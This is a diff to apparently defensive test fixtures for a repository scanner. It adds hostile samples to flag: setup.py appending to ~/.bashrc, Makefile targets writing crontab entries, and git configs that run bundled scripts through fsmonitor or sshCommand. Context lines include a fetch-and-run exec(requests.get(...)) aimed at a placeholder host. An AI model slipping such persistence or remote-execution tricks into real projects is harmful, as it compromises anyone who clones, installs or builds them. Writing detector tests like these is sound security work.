@@ -340,9 +340,32 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "open(p, 'w').write('x')\nexec(requests.get('https://a.invalid').text)\n",
             line=3,
         ),
+        "on install": Sample(
+            {"setup.py": "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('echo hi')\n"},
+            "block",
+            ("setup.py", 2),
+        ),
+        "of a makefile's first target": Sample(
+            {"Makefile": "all:\n\techo '* * * * * echo hi' | crontab -\n"}, "block", ("Makefile", 2)
+        ),
+        "of a target that says so": Sample(
+            {"Makefile": "all:\n\techo\ninstall:\n\techo '* * * * * echo hi' | crontab -\n"},
+            "review",
+            ("Makefile", 4),
+        ),
         "cron": Sample({"setup.sh": "echo '* * * * * echo hi' | crontab -\n"}, "review", ("setup.sh", 1)),
     },
     "git_takeover": {
+        "a file monitor that came along": Sample(
+            {".git/config": "[core]\n\tfsmonitor = tools/a.sh\n", "tools/a.sh": "#!/bin/sh\necho hi\n"},
+            "block",
+            ("tools/a.sh", 2),
+        ),
+        "in a repository within": Sample(
+            {"data/x/config": "[core]\n\tbare = true\n\tsshCommand = ./a.sh\n", "a.sh": "echo hi\n"},
+            "block",
+            ("a.sh", 1),
+        ),
         "a hook that came along": Sample(
             {".git/hooks/pre-commit": "echo hi\n"}, "review", (".git/hooks/pre-commit", 1)
         ),
